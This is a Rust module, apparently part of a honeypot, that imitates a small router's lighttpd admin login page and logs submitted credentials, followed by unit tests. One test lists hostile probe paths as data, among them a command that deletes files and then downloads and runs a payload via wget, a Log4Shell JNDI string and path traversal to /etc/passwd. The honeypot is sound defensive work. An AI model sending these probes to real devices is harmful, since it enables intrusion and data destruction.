//! The web interface recce7's HTTP plug-in shows: the admin login of a small home Wi-Fi
//! router ("WR-1200AC", an unbranded OEM AC1200 model, firmware V1.0.8 built 2021-03-15)
//! served by lighttpd 1.4.59.
//!
//! Why this device: a router login page is what scanners and credential-stuffing bots look
//! for, so it draws the traffic a honeypot wants to record, and lighttpd is the web server of
//! many such firmwares. nmap's service probes identify `Server: lighttpd/<version>` on any
//! HTTP/1.x status line ("lighttpd 1.4.59"), so the sensor is named as an ordinary embedded
//! web server rather than as a honeypot.
//!
//! Why the details: a fingerprint compares more than the Server header. The responses follow
//! what lighttpd 1.4.59 itself sends: its status phrases ("413 Payload Too Large"), its
//! built-in XHTML error page, the header order (handler headers, then Content-Length,
//! Connection, Date, Server), no Connection header on a kept HTTP/1.1 connection,
//! `Connection: keep-alive` for a kept HTTP/1.0 one, `Allow: OPTIONS, GET, HEAD, POST` for
//! OPTIONS, 501 for methods it does not implement and, closing the connection, for methods it
//! does not know (including lowercase ones), 405 for CONNECT, 400 for an HTTP/1.1 request
//! without Host. Static files carry ETag, Last-Modified (the firmware build time) and, for
//! HTTP/1.1 GET and HEAD, Accept-Ranges; the login pages come from the firmware's CGI and are
//! never cached. No request data is reflected into any page.
//!
//! Pure: a [`Response`] value from a parsed request, no I/O (the Date header reads the clock).
#![deny(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic
)]

use std::time::SystemTime;

use super::parse::Request;

/// The Server header: the exact string lighttpd 1.4.59 sends by default.
const SERVER: &str = "lighttpd/1.4.59";

/// The methods lighttpd 1.4.59 knows (its `http_methods` table); any other method is refused
/// while the request is parsed, with 501 and a closed connection.
const KNOWN_METHODS: &[&str] = &[
    "GET",
    "HEAD",
    "POST",
    "PUT",
    "DELETE",
    "CONNECT",
    "OPTIONS",
    "TRACE",
    "ACL",
    "BASELINE-CONTROL",
    "BIND",
    "CHECKIN",
    "CHECKOUT",
    "COPY",
    "LABEL",
    "LINK",
    "LOCK",
    "MERGE",
    "MKACTIVITY",
    "MKCALENDAR",
    "MKCOL",
    "MKREDIRECTREF",
    "MKWORKSPACE",
    "MOVE",
    "ORDERPATCH",
    "PATCH",
    "PRI",
    "PROPFIND",
    "PROPPATCH",
    "REBIND",
    "REPORT",
    "SEARCH",
    "UNBIND",
    "UNCHECKOUT",
    "UNLINK",
    "UNLOCK",
    "UPDATE",
    "UPDATEREDIRECTREF",
    "VERSION-CONTROL",
];

/// Modification time of the firmware's static files (its build time, as in a squashfs image).
const FIRMWARE_MTIME: &str = "Mon, 15 Mar 2021 09:27:14 GMT";

const ROBOTS_TXT: &str = "User-agent: *\nDisallow: /\n";
/// lighttpd's ETag: a decimal hash of inode, mtime and size, quoted.
const ROBOTS_ETAG: &str = "\"1602387215\"";

/// Where the login form may be posted (its action, and the pages showing it).
const LOGIN_TARGETS: &[&str] = &[
    "/login.cgi",
    "/",
    "/index.html",
    "/login.html",
    "/login.htm",
];
/// Field names taken as the user name, most likely first (the form's own name leads).
const USER_FIELDS: &[&str] = &[
    "username",
    "user",
    "login",
    "user_name",
    "uname",
    "usr",
    "loginuser",
    "admin_name",
];
/// Field names taken as the password, most likely first (the form's own name leads).
const PASS_FIELDS: &[&str] = &[
    "password",
    "pass",
    "pwd",
    "passwd",
    "pw",
    "psw",
    "loginpassword",
    "admin_pwd",
];
/// Most bytes kept of a captured user name or password.
const MAX_CREDENTIAL_BYTES: usize = 256;
/// Most bytes of session id put into Set-Cookie.
const MAX_COOKIE_VALUE_BYTES: usize = 128;

const LOGIN_PAGE_HEAD: &str = r#"<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta http-equiv="X-UA-Compatible" content="IE=edge">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>WR-1200AC - Login</title>
<style type="text/css">
body{margin:0;background:#eef1f5;font:13px Arial,Helvetica,sans-serif;color:#333}
#hdr{background:#1f4e79;color:#fff;height:56px;line-height:56px;padding:0 24px}
#hdr b{font-size:20px;letter-spacing:1px}
#hdr span{float:right;font-size:12px}
#box{width:340px;margin:80px auto 0;background:#fff;border:1px solid #d3d9e0;border-radius:4px;padding:24px 30px}
#box h2{margin:0 0 18px;font-size:18px;font-weight:normal;color:#1f4e79}
#box td{padding:6px 0}
#box input.txt{width:200px;padding:5px;border:1px solid #b8c2cc}
.btn{background:#1f4e79;color:#fff;border:0;padding:7px 26px;cursor:pointer}
.err{color:#c00;margin:0 0 12px}
#ftr{text-align:center;color:#889;font-size:11px;margin-top:40px}
</style>
<script type="text/javascript">
function chk(f){if(f.username.value==""){alert("Please enter the username.");f.username.focus();return false;}return true;}
</script>
</head>
<body onload="document.login.username.focus();">
<div id="hdr"><b>WR-1200AC</b><span>AC1200 Dual Band Wireless Router</span></div>
<div id="box">
<h2>Login</h2>
"#;

const LOGIN_ERROR: &str = "<p class=\"err\">Invalid username or password</p>\n";

const LOGIN_PAGE_TAIL: &str = r#"<form name="login" method="post" action="/login.cgi" onsubmit="return chk(this);">
<table>
<tr><td width="90">Username</td><td><input type="text" class="txt" name="username" maxlength="32" autocomplete="off"></td></tr>
<tr><td>Password</td><td><input type="password" class="txt" name="password" maxlength="64"></td></tr>
<tr><td></td><td><input type="submit" class="btn" value="Login"></td></tr>
</table>
</form>
</div>
<div id="ftr">Firmware Version: V1.0.8 Build 20210315 &nbsp;|&nbsp; Hardware Version: V2.0</div>
</body>
</html>
"#;

/// Name of the session cookie the plug-in sets and reads back, so a visitor's requests over
/// several connections land in one session (the name is a common one on embedded admin UIs).
pub const SESSION_COOKIE: &str = "SESSIONID";

/// One HTTP response, ready to encode: what the device would send for a request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Response {
    /// The status code.
    pub status: u16,
    /// The reason phrase, lighttpd's wording (empty for a code lighttpd has no name for).
    pub reason: &'static str,
    /// Header fields in the order they are sent, Content-Length included (also for HEAD,
    /// where it gives the length the body would have had).
    pub headers: Vec<(&'static str, String)>,
    /// The body; empty for HEAD.
    pub body: Vec<u8>,
}

impl Response {
    /// Appends the response as sent on the wire: `HTTP/1.1 <status> <reason>`, the header
    /// fields, a blank line and the body. A Content-Length is added when the headers lack
    /// one; CR, LF and NUL are dropped from header values so nothing can split the head.
    pub fn encode(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(format!("HTTP/1.1 {} {}\r\n", self.status, self.reason).as_bytes());
        for (name, value) in &self.headers {
            out.extend_from_slice(name.as_bytes());
            out.extend_from_slice(b": ");
            out.extend(
                value
                    .bytes()
                    .filter(|&b| b != b'\r' && b != b'\n' && b != 0),
            );
            out.extend_from_slice(b"\r\n");
        }
        if !self
            .headers
            .iter()
            .any(|(name, _)| name.eq_ignore_ascii_case("content-length"))
        {
            out.extend_from_slice(format!("Content-Length: {}\r\n", self.body.len()).as_bytes());
        }
        out.extend_from_slice(b"\r\n");
        out.extend_from_slice(&self.body);
    }

    /// Whether this response says `Connection: close`, so the caller closes after sending it
    /// even when the request asked to keep the connection (lighttpd closes after refusing a
    /// request it could not parse, an unknown method, CONNECT, or a missing Host).
    pub fn closes_connection(&self) -> bool {
        self.headers.iter().any(|(name, value)| {
            name.eq_ignore_ascii_case("connection") && value.eq_ignore_ascii_case("close")
        })
    }
}

/// What a handler produced, before the headers lighttpd adds itself.
struct Page {
    status: u16,
    headers: Vec<(&'static str, String)>,
    body: Vec<u8>,
    /// lighttpd closes the connection after this response whatever the request asked.
    close: bool,
}

/// The device's answer to one request, so the plug-in only has to encode and send it.
///
/// `set_cookie`: `Some(session id)` when the caller starts a new session and wants the
/// visitor to carry it (sent as `SESSIONID=<id>; Path=/; HttpOnly`; characters not allowed in
/// a cookie value are dropped, the id is cut to 128 bytes). `keep_alive`: whether the caller
/// keeps the connection open after this response (normally [`Request::keep_alive`]); it
/// decides the Connection header the way lighttpd does: `close` when not kept, nothing for a
/// kept HTTP/1.1 connection, `keep-alive` for a kept HTTP/1.0 one. Some answers close
/// regardless; see [`Response::closes_connection`].
pub fn respond(req: &Request, set_cookie: Option<&str>, keep_alive: bool) -> Response {
    let cookie = set_cookie.and_then(session_cookie);
    let page = page_for(req, cookie);
    finish(page, req.method == "HEAD", keep_alive, req.version)
}

/// The device's answer to a request that could not be parsed or was over a limit (400, 413,
/// 431, 501 ...), always with `Connection: close`, so the caller can refuse in the same style
/// as every other page before closing.
pub fn error_response(status: u16) -> Response {
    finish(error_page(status, None, true), false, false, 1)
}

/// The user name and password if `req` submits the login form: a POST to `/login.cgi` (the
/// form's action) or to a page showing the form, or a GET of `/login.cgi` with them in the
/// query, as scripts sometimes send. Takes the form's field names and the common variants
/// (`user`/`pass`, `login`/`pwd`, ...), from a urlencoded body or the query string. A
/// missing one of the two is returned empty; each is cut to 256 bytes so a hostile
/// submission cannot bloat the record. `None` when neither field is present.
pub fn login_attempt(req: &Request) -> Option<(String, String)> {
    let path = normalize_path(&req.path)?;
    let is_post = req.method.eq_ignore_ascii_case("POST");
    let is_get = req.method.eq_ignore_ascii_case("GET");
    let submits =
        (is_post && LOGIN_TARGETS.contains(&path.as_str())) || (is_get && path == "/login.cgi");
    if !submits {
        return None;
    }
    let user = req.form_field(USER_FIELDS);
    let pass = req.form_field(PASS_FIELDS);
    if user.is_none() && pass.is_none() {
        return None;
    }
    Some((
        bounded(user.unwrap_or_default()),
        bounded(pass.unwrap_or_default()),
    ))
}

/// What each path of the device is.
#[derive(Debug, PartialEq, Eq)]
enum Route {
    /// The login page (the CGI-generated index).
    Login,
    /// The form's action.
    LoginCgi,
    Robots,
    /// An existing directory without index and without listing: 403.
    CgiBinDir,
    /// An admin page: redirects to the login page until logged in (which never happens).
    NeedsLogin,
    NotFound,
}

fn route(path: &str) -> Route {
    match path {
        "/" | "/index.html" | "/login.html" | "/login.htm" => Route::Login,
        "/login.cgi" => Route::LoginCgi,
        "/robots.txt" => Route::Robots,
        "/cgi-bin/" => Route::CgiBinDir,
        "/main.html" | "/status.html" | "/admin.html" | "/wizard.html" | "/status.cgi"
        | "/setup.cgi" | "/apply.cgi" | "/logout.cgi" => Route::NeedsLogin,
        _ => Route::NotFound,
    }
}

fn page_for(req: &Request, cookie: Option<String>) -> Page {
    let method = req.method.as_str();
    // Checks lighttpd makes while parsing the request: refused, connection closed.
    if !KNOWN_METHODS.contains(&method) {
        return error_page(501, cookie, true);
    }
    let hosts = req
        .headers
        .iter()
        .filter(|(name, _)| name.eq_ignore_ascii_case("host"))
        .count();
    if hosts > 1 || (req.version >= 1 && hosts == 0) {
        return error_page(400, cookie, true);
    }
    if req.version == 0 && req.header("transfer-encoding").is_some() {
        return error_page(400, cookie, true);
    }
    if method == "CONNECT" {
        return error_page(405, cookie, true);
    }
    if method == "OPTIONS" && req.path == "*" {
        return options_page(cookie);
    }
    let Some(path) = normalize_path(&req.path) else {
        return error_page(400, cookie, true);
    };

    let route = route(&path);
    match method {
        "GET" | "HEAD" | "POST" => {}
        "OPTIONS" if route == Route::NotFound => return error_page(404, cookie, false),
        "OPTIONS" => return options_page(cookie),
        // Known to lighttpd, but no module here handles it.
        _ => return error_page(501, cookie, false),
    }
    let http11_get = req.version >= 1 && method != "POST";
    match route {
        Route::Login => login_page(false, cookie),
        Route::LoginCgi if method == "POST" || login_attempt(req).is_some() => {
            login_page(true, cookie)
        }
        Route::LoginCgi | Route::NeedsLogin => redirect("/login.html", cookie),
        Route::Robots => static_file("text/plain", ROBOTS_ETAG, ROBOTS_TXT, http11_get, cookie),
        Route::CgiBinDir => error_page(403, cookie, false),
        Route::NotFound => error_page(404, cookie, false),
    }
}

fn login_page(failed: bool, cookie: Option<String>) -> Page {
    let mut body = String::with_capacity(LOGIN_PAGE_HEAD.len() + LOGIN_PAGE_TAIL.len() + 64);
    body.push_str(LOGIN_PAGE_HEAD);
    if failed {
        body.push_str(LOGIN_ERROR);
    }
    body.push_str(LOGIN_PAGE_TAIL);
    let mut headers = vec![
        ("Content-Type", "text/html; charset=utf-8".to_owned()),
        (
            "Cache-Control",
            "no-cache, no-store, must-revalidate".to_owned(),
        ),
        ("Pragma", "no-cache".to_owned()),
    ];
    headers.extend(cookie.map(|c| ("Set-Cookie", c)));
    Page {
        status: 200,
        headers,
        body: body.into_bytes(),
        close: false,
    }
}

fn redirect(location: &'static str, cookie: Option<String>) -> Page {
    let mut headers = vec![("Location", location.to_owned())];
    headers.extend(cookie.map(|c| ("Set-Cookie", c)));
    Page {
        status: 302,
        headers,
        body: Vec::new(),
        close: false,
    }
}

fn static_file(
    content_type: &'static str,
    etag: &'static str,
    body: &'static str,
    ranges: bool,
    cookie: Option<String>,
) -> Page {
    let mut headers = vec![("Content-Type", content_type.to_owned())];
    if ranges {
        headers.push(("Accept-Ranges", "bytes".to_owned()));
    }
    headers.push(("ETag", etag.to_owned()));
    headers.push(("Last-Modified", FIRMWARE_MTIME.to_owned()));
    headers.extend(cookie.map(|c| ("Set-Cookie", c)));
    Page {
        status: 200,
        headers,
        body: body.as_bytes().to_vec(),
        close: false,
    }
}

fn options_page(cookie: Option<String>) -> Page {
    let mut headers = vec![("Allow", "OPTIONS, GET, HEAD, POST".to_owned())];
    headers.extend(cookie.map(|c| ("Set-Cookie", c)));
    Page {
        status: 200,
        headers,
        body: Vec::new(),
        close: false,
    }
}

/// lighttpd's built-in error document, byte for byte.
fn error_page(status: u16, cookie: Option<String>, close: bool) -> Page {
    let title = format!("{status} {}", reason(status));
    let body = format!(
        "<?xml version=\"1.0\" encoding=\"iso-8859-1\"?>\n\
<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\"\n         \
\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">\n\
<html xmlns=\"http://www.w3.org/1999/xhtml\" xml:lang=\"en\" lang=\"en\">\n \
<head>\n  <title>{title}</title>\n </head>\n <body>\n  <h1>{title}</h1>\n </body>\n</html>\n"
    );
    let mut headers = vec![("Content-Type", "text/html".to_owned())];
    headers.extend(cookie.map(|c| ("Set-Cookie", c)));
    Page {
        status,
        headers,
        body: body.into_bytes(),
        close,
    }
}

/// Adds the headers lighttpd writes itself, in its order, and drops the body for HEAD.
fn finish(page: Page, head: bool, keep_alive: bool, version: u8) -> Response {
    let Page {
        status,
        mut headers,
        body,
        close,
    } = page;
    // The firmware's lighttpd.conf sets this on every response (mod_setenv).
    headers.push(("X-Frame-Options", "SAMEORIGIN".to_owned()));
    // lighttpd omits Content-Length only for an empty answer to HEAD.
    if !(head && body.is_empty()) {
        headers.push(("Content-Length", body.len().to_string()));
    }
    if close || !keep_alive {
        headers.push(("Connection", "close".to_owned()));
    } else if version == 0 {
        headers.push(("Connection", "keep-alive".to_owned()));
    }
    headers.push(("Date", httpdate::fmt_http_date(SystemTime::now())));
    headers.push(("Server", SERVER.to_owned()));
    Response {
        status,
        reason: reason(status),
        headers,
        body: if head { Vec::new() } else { body },
    }
}

/// lighttpd 1.4.59's reason phrases.
fn reason(status: u16) -> &'static str {
    match status {
        100 => "Continue",
        200 => "OK",
        204 => "No Content",
        206 => "Partial Content",
        301 => "Moved Permanently",
        302 => "Found",
        304 => "Not Modified",
        307 => "Temporary Redirect",
        400 => "Bad Request",
        401 => "Unauthorized",
        403 => "Forbidden",
        404 => "Not Found",
        405 => "Method Not Allowed",
        408 => "Request Timeout",
        411 => "Length Required",
        413 => "Payload Too Large",
        414 => "URI Too Long",
        415 => "Unsupported Media Type",
        416 => "Range Not Satisfiable",
        417 => "Expectation Failed",
        426 => "Upgrade Required",
        429 => "Too Many Requests",
        431 => "Request Header Fields Too Large",
        500 => "Internal Server Error",
        501 => "Not Implemented",
        502 => "Bad Gateway",
        503 => "Service Unavailable",
        504 => "Gateway Timeout",
        505 => "HTTP Version Not Supported",
        _ => "",
    }
}

/// The Set-Cookie value for a session id, keeping only RFC 6265 cookie-octets.
fn session_cookie(id: &str) -> Option<String> {
    let is_cookie_octet = |c: &char| matches!(*c, '\x21' | '\x23'..='\x2b' | '\x2d'..='\x3a' | '\x3c'..='\x5b' | '\x5d'..='\x7e');
    let id: String = id
        .chars()
        .filter(is_cookie_octet)
        .take(MAX_COOKIE_VALUE_BYTES)
        .collect();
    if id.is_empty() {
        None
    } else {
        Some(format!("{SESSION_COOKIE}={id}; Path=/; HttpOnly"))
    }
}

/// Cuts a captured credential (escaped as [`store::escape_text`] writes it) to
/// [`MAX_CREDENTIAL_BYTES`], never inside a character or an escape (`\\`, `\xNN`).
fn bounded(mut s: String) -> String {
    if s.len() > MAX_CREDENTIAL_BYTES {
        let mut end = 0;
        let mut chars = s.char_indices().peekable();
        while let Some((i, c)) = chars.next() {
            let next = match (c, chars.peek()) {
                ('\\', Some((_, 'x'))) => i + 4,
                ('\\', Some((_, '\\'))) => i + 2,
                _ => i + c.len_utf8(),
            };
            if next > MAX_CREDENTIAL_BYTES {
                break;
            }
            end = next;
            while chars.peek().is_some_and(|&(j, _)| j < next) {
                chars.next();
            }
        }
        s.truncate(end);
    }
    s
}

/// The path a request target names, as lighttpd resolves it: the path of an absolute URI,
/// without query or fragment, percent-decoded, with empty and `.` segments dropped and `..`
/// applied (never above the root). `None` for a target that is not a path.
fn normalize_path(target: &str) -> Option<String> {
    let after_scheme = strip_prefix_ignore_case(target, "http://")
        .or_else(|| strip_prefix_ignore_case(target, "https://"));
    let path = match after_scheme {
        Some(authority_and_path) => {
            let start = authority_and_path
                .find(['/', '?', '#'])
                .unwrap_or(authority_and_path.len());
            match authority_and_path.get(start..) {
                Some(rest) if rest.starts_with('/') => rest,
                _ => "/",
            }
        }
        None => target,
    };
    if !path.starts_with('/') {
        return None;
    }
    let path = path.split(['?', '#']).next().unwrap_or(path);
    let decoded = super::parse::percent_decode(path.as_bytes(), false);
    let decoded = String::from_utf8_lossy(&decoded);

    let mut segments: Vec<&str> = Vec::new();
    for segment in decoded.split('/') {
        match segment {
            "" | "." => {}
            ".." => {
                segments.pop();
            }
            s => segments.push(s),
        }
    }
    let mut out = String::with_capacity(decoded.len() + 1);
    for segment in &segments {
        out.push('/');
        out.push_str(segment);
    }
    let dir = decoded.ends_with('/') || decoded.ends_with("/.") || decoded.ends_with("/..");
    if dir || segments.is_empty() {
        out.push('/');
    }
    Some(out)
}

fn strip_prefix_ignore_case<'a>(s: &'a str, prefix: &str) -> Option<&'a str> {
    let head = s.get(..prefix.len())?;
    if head.eq_ignore_ascii_case(prefix) {
        s.get(prefix.len()..)
    } else {
        None
    }
}

#[cfg(test)]
#[allow(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic
)]
mod tests {
    use super::super::parse::{Limits, parse_request};
    use super::*;

    fn req(wire: &str) -> Request {
        match parse_request(wire.as_bytes(), &Limits::default()) {
            Ok(Some((req, used))) => {
                assert_eq!(used, wire.len());
                req
            }
            other => panic!("test request does not parse: {other:?}"),
        }
    }

    fn get(path: &str) -> Request {
        req(&format!("GET {path} HTTP/1.1\r\nHost: 192.168.0.1\r\n\r\n"))
    }

    fn header<'a>(res: &'a Response, name: &str) -> Option<&'a str> {
        res.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    fn names(res: &Response) -> Vec<&'static str> {
        res.headers.iter().map(|(n, _)| *n).collect()
    }

    fn body(res: &Response) -> &str {
        std::str::from_utf8(&res.body).unwrap()
    }

    fn post_form(path: &str, form: &str) -> Request {
        req(&format!(
            "POST {path} HTTP/1.1\r\nHost: 192.168.0.1\r\n\
Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{form}",
            form.len()
        ))
    }

    #[test]
    fn login_page_content_and_headers() {
        let res = respond(&get("/"), None, true);
        assert_eq!((res.status, res.reason), (200, "OK"));
        assert_eq!(
            names(&res),
            [
                "Content-Type",
                "Cache-Control",
                "Pragma",
                "X-Frame-Options",
                "Content-Length",
                "Date",
                "Server"
            ]
        );
        assert_eq!(
            header(&res, "Content-Type"),
            Some("text/html; charset=utf-8")
        );
        assert_eq!(
            header(&res, "Cache-Control"),
            Some("no-cache, no-store, must-revalidate")
        );
        assert_eq!(header(&res, "X-Frame-Options"), Some("SAMEORIGIN"));
        assert_eq!(header(&res, "Server"), Some("lighttpd/1.4.59"));
        assert_eq!(
            header(&res, "Content-Length"),
            Some(res.body.len().to_string().as_str())
        );
        let date = header(&res, "Date").unwrap();
        assert!(httpdate::parse_http_date(date).is_ok(), "{date}");
        assert!(date.ends_with(" GMT"));
        let page = body(&res);
        assert!(page.contains("<title>WR-1200AC - Login</title>"));
        assert!(page.contains(r#"<form name="login" method="post" action="/login.cgi""#));
        assert!(page.contains(r#"name="username""#));
        assert!(page.contains(r#"type="password" class="txt" name="password""#));
        assert!(!page.contains("Invalid username or password"));
        assert!(page.ends_with("</html>\n"));
        for path in ["/login.html", "/index.html", "/login.htm", "/?lang=en"] {
            assert_eq!(respond(&get(path), None, true).body, res.body, "{path}");
        }
    }

    #[test]
    fn head_has_no_body_but_the_same_content_length() {
        for path in ["/", "/robots.txt", "/nothing-here", "/cgi-bin/"] {
            let full = respond(&get(path), None, true);
            let head = respond(
                &req(&format!("HEAD {path} HTTP/1.1\r\nHost: h\r\n\r\n")),
                None,
                true,
            );
            assert!(head.body.is_empty());
            assert!(!full.body.is_empty());
            assert_eq!(head.status, full.status);
            assert_eq!(
                header(&head, "Content-Length"),
                Some(full.body.len().to_string().as_str()),
                "{path}"
            );
            assert_eq!(names(&head), names(&full));
        }
        // An empty answer to HEAD has no Content-Length, as with lighttpd.
        let head = respond(
            &req("HEAD /main.html HTTP/1.1\r\nHost: h\r\n\r\n"),
            None,
            true,
        );
        assert_eq!(head.status, 302);
        assert_eq!(header(&head, "Content-Length"), None);
    }

    #[test]
    fn failed_login_reshows_the_form() {
        let res = respond(
            &post_form("/login.cgi", "username=admin&password=admin"),
            Some("s1"),
            true,
        );
        assert_eq!(res.status, 200);
        let page = body(&res);
        assert!(page.contains("<p class=\"err\">Invalid username or password</p>"));
        assert!(page.contains(r#"action="/login.cgi""#));
        assert!(page.contains(r#"name="password""#));
        assert_eq!(
            header(&res, "Set-Cookie"),
            Some("SESSIONID=s1; Path=/; HttpOnly")
        );
        // Any POST to the action fails the same way.
        let empty = respond(
            &req("POST /login.cgi HTTP/1.1\r\nHost: h\r\nContent-Length: 0\r\n\r\n"),
            None,
            true,
        );
        assert_eq!(empty.body, res.body);
        // Credentials in the query of a GET too; a bare GET goes back to the form.
        let query = respond(&get("/login.cgi?username=a&password=b"), None, true);
        assert_eq!(query.body, res.body);
        let bare = respond(&get("/login.cgi"), None, true);
        assert_eq!((bare.status, bare.reason), (302, "Found"));
        assert_eq!(header(&bare, "Location"), Some("/login.html"));
        assert_eq!(header(&bare, "Content-Length"), Some("0"));
    }

    #[test]
    fn robots_and_favicon() {
        let res = respond(&get("/robots.txt"), None, true);
        assert_eq!(res.status, 200);
        assert_eq!(body(&res), "User-agent: *\nDisallow: /\n");
        assert_eq!(
            names(&res),
            [
                "Content-Type",
                "Accept-Ranges",
                "ETag",
                "Last-Modified",
                "X-Frame-Options",
                "Content-Length",
                "Date",
                "Server"
            ]
        );
        assert_eq!(header(&res, "Content-Type"), Some("text/plain"));
        assert!(httpdate::parse_http_date(header(&res, "Last-Modified").unwrap()).is_ok());
        // lighttpd offers ranges to HTTP/1.1 GET and HEAD only.
        let old = respond(&req("GET /robots.txt HTTP/1.0\r\n\r\n"), None, false);
        assert_eq!(header(&old, "Accept-Ranges"), None);

        let icon = respond(&get("/favicon.ico"), None, true);
        assert_eq!((icon.status, icon.reason), (404, "Not Found"));
    }

    #[test]
    fn not_found_is_lighttpds_error_page() {
        let res = respond(&get("/nothing-here"), None, true);
        assert_eq!((res.status, res.reason), (404, "Not Found"));
        let expected = concat!(
            "<?xml version=\"1.0\" encoding=\"iso-8859-1\"?>\n",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\"\n",
            "         \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">\n",
            "<html xmlns=\"http://www.w3.org/1999/xhtml\" xml:lang=\"en\" lang=\"en\">\n",
            " <head>\n",
            "  <title>404 Not Found</title>\n",
            " </head>\n",
            " <body>\n",
            "  <h1>404 Not Found</h1>\n",
            " </body>\n",
            "</html>\n",
        );
        assert_eq!(body(&res), expected);
        assert_eq!(
            names(&res),
            [
                "Content-Type",
                "X-Frame-Options",
                "Content-Length",
                "Date",
                "Server"
            ]
        );
        assert_eq!(header(&res, "Content-Type"), Some("text/html"));
        assert!(!res.closes_connection());
    }

    #[test]
    fn probe_paths() {
        for path in [
            "/HNAP1/",
            "/HNAP1",
            "/shell?cd+/tmp;rm+-rf+*;wget+http://x/m;sh+m",
            "/.env",
            "/cgi-bin/luci",
            "/cgi-bin/ViewLog.asp",
            "/boaform/admin/formLogin",
            "/GponForm/diag_Form?images/",
            "/wp-login.php",
            "/..%2f..%2fetc/passwd",
            "/${jndi:ldap://x/a}",
            "/%00",
        ] {
            let res = respond(&get(path), None, true);
            assert_eq!(res.status, 404, "{path}");
            assert!(body(&res).contains("<h1>404 Not Found</h1>"), "{path}");
            assert!(!body(&res).contains("jndi"), "{path}");
        }
        let dir = respond(&get("/cgi-bin/"), None, true);
        assert_eq!((dir.status, dir.reason), (403, "Forbidden"));
        for path in ["/main.html", "/status.cgi", "/setup.cgi", "/apply.cgi"] {
            let res = respond(&get(path), None, true);
            assert_eq!(res.status, 302, "{path}");
            assert_eq!(header(&res, "Location"), Some("/login.html"));
        }
    }

    #[test]
    fn targets_are_resolved_like_lighttpd() {
        for path in [
            "/./login.html",
            "//login.html",
            "/foo/../login.html",
            "/../../login.html",
            "/login%2ehtml",
            "/login.html#frag",
            "http://example.com/login.html",
            "HTTP://example.com",
            "https://example.com?x=1",
        ] {
            assert_eq!(respond(&get(path), None, true).status, 200, "{path}");
        }
        assert_eq!(normalize_path("/a/b/..").as_deref(), Some("/a/"));
        assert_eq!(normalize_path("/a//b/./c").as_deref(), Some("/a/b/c"));
        assert_eq!(
            normalize_path("/cgi-bin/x/..").as_deref(),
            Some("/cgi-bin/")
        );
        assert_eq!(
            normalize_path("/%2e%2e/%2e%2e/etc").as_deref(),
            Some("/etc")
        );
        assert_eq!(normalize_path("/a+b%20c").as_deref(), Some("/a+b c"));
        assert_eq!(normalize_path("/%ff").as_deref(), Some("/\u{fffd}"));
        assert_eq!(normalize_path("example.com:443"), None);
        assert_eq!(normalize_path("*"), None);
        let res = respond(&get("index.html"), None, true);
        assert_eq!(res.status, 400);
        assert!(res.closes_connection());
    }

    #[test]
    fn methods_like_lighttpd() {
        let star = respond(&req("OPTIONS * HTTP/1.1\r\nHost: h\r\n\r\n"), None, true);
        assert_eq!(star.status, 200);
        assert_eq!(header(&star, "Allow"), Some("OPTIONS, GET, HEAD, POST"));
        assert_eq!(header(&star, "Content-Length"), Some("0"));
        assert!(star.body.is_empty());
        let page = respond(&req("OPTIONS / HTTP/1.1\r\nHost: h\r\n\r\n"), None, true);
        assert_eq!(page.status, 200);
        let missing = respond(
            &req("OPTIONS /nope HTTP/1.1\r\nHost: h\r\n\r\n"),
            None,
            true,
        );
        assert_eq!(missing.status, 404);

        // Known but not implemented: 501, connection kept.
        for method in ["PUT", "DELETE", "TRACE", "PROPFIND", "PATCH"] {
            let res = respond(
                &req(&format!("{method} / HTTP/1.1\r\nHost: h\r\n\r\n")),
                None,
                true,
            );
            assert_eq!(
                (res.status, res.reason),
                (501, "Not Implemented"),
                "{method}"
            );
            assert!(body(&res).contains("<title>501 Not Implemented</title>"));
            assert!(!res.closes_connection(), "{method}");
        }
        // Unknown (lighttpd's method names are case-sensitive): 501, connection closed.
        for method in ["FOO", "get", "Get", "M-SEARCH"] {
            let res = respond(
                &req(&format!("{method} / HTTP/1.1\r\nHost: h\r\n\r\n")),
                None,
                true,
            );
            assert_eq!(res.status, 501, "{method}");
            assert!(res.closes_connection(), "{method}");
        }
        let connect = respond(
            &req("CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n"),
            None,
            true,
        );
        assert_eq!(
            (connect.status, connect.reason),
            (405, "Method Not Allowed")
        );
        assert!(connect.closes_connection());
    }

    #[test]
    fn host_rules() {
        let res = respond(&req("GET / HTTP/1.1\r\n\r\n"), None, true);
        assert_eq!(res.status, 400);
        assert!(res.closes_connection());
        let two = respond(
            &req("GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"),
            None,
            true,
        );
        assert_eq!(two.status, 400);
        assert_eq!(
            respond(&req("GET / HTTP/1.0\r\n\r\n"), None, false).status,
            200
        );
        let te = respond(
            &req("POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
            None,
            false,
        );
        assert_eq!(te.status, 400);
    }

    #[test]
    fn connection_header() {
        let kept11 = respond(&get("/"), None, true);
        assert_eq!(header(&kept11, "Connection"), None);
        assert!(!kept11.closes_connection());
        let closed11 = respond(&get("/"), None, false);
        assert_eq!(header(&closed11, "Connection"), Some("close"));
        assert!(closed11.closes_connection());
        let kept10 = respond(
            &req("GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n"),
            None,
            true,
        );
        assert_eq!(header(&kept10, "Connection"), Some("keep-alive"));
        let closed10 = respond(&req("GET / HTTP/1.0\r\n\r\n"), None, false);
        assert_eq!(header(&closed10, "Connection"), Some("close"));
        // lighttpd's order: Content-Length, Connection, Date, Server.
        let n = names(&closed10);
        assert_eq!(
            &n[n.len() - 4..],
            ["Content-Length", "Connection", "Date", "Server"]
        );
    }

    #[test]
    fn set_cookie_format() {
        let res = respond(&get("/"), Some("0123456789abcdef"), true);
        assert_eq!(
            header(&res, "Set-Cookie"),
